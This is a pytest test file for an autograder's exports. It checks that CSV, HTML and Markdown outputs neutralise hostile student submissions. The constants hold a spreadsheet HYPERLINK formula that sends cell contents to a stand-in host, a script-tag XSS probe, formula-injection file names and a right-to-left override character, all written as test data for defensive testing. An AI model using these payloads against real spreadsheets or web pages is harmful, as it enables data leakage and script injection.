"""What submissions are called, print and raise reaches a class's CSV files and pages, and runs in none of them."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import classroom
import kit
import pytest

from autograder.exports.cells import LEADING, restored

FORMULA = "=HYPERLINK(\"http://x.example/?\"&A1;'marks')<script>alert(1)</script>"
RAISES = ("mytorch/Conv1d.py", "dLdZ.sum(axis=(0, 2))", f"[print({FORMULA!r})][1]")
ANSWERS = ("MCQ/mcq.py", 'return "b"', f"raise ValueError({FORMULA!r})")
FORBIDDEN = ("mytorch/pool.py", "", f'"""{FORMULA}"""\nraise ImportError({FORMULA!r})\n')
NAMES = ("=1+1", "+cmd", "-2+3", "@SUM(A1)", "\t=1", "'=1", '\u202e=1,2;"x"', "=cut short", "＝1")


@pytest.fixture(scope="module")
def out(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A class of such submissions, graded and given out."""
    root = tmp_path_factory.mktemp("hostile")
    folder = root / "class"
    folder.mkdir()
    data = classroom.zipped(classroom.contents(classroom.Variant("", (RAISES, ANSWERS, FORBIDDEN), None)))
    for name in NAMES:
        (folder / f"{name}.zip").write_bytes(data if name != "=cut short" else data[:100])
    done = kit.command("batch", folder, "--gradebook", root / "book", "--jobs", 2)
    assert done.returncode == 0, done.stderr
    kit.exports(root / "book", root / "out")
    return root / "out"


def test_no_cell_begins_a_formula_and_names_come_back(out: Path) -> None:
    tables = [out / "csv", *out.glob("*/students.csv")]
    assert len(tables) == 5
    for path in tables:
        rows = list(csv.reader(io.StringIO(path.read_bytes().decode(), newline="")))
        cells = [cell for row in rows for cell in row]
        assert not [cell for cell in cells if cell.startswith(LEADING)], path
        # A name is read from a file's name, without blanks at its ends and with what cannot be seen escaped.
        plain = {name for name in NAMES if name.isprintable()}
        assert {restored(row[0]) for row in rows[1:]} >= plain


def test_no_page_runs_anything(out: Path) -> None:
    pages = [*out.glob("html/*.html"), *out.glob("markdown/*.md")]
    assert len(pages) == 2 * (len(NAMES) - 1)
    for page in pages:
        text = page.read_text("utf-8")
        assert "<script>alert" not in text
        assert "\u202e" not in text


def test_json_lines_are_ascii(out: Path) -> None:
    for line in (out / "jsonl").read_text("ascii").splitlines():
        assert json.loads(line)["schema"] == "autograder/export/v1"
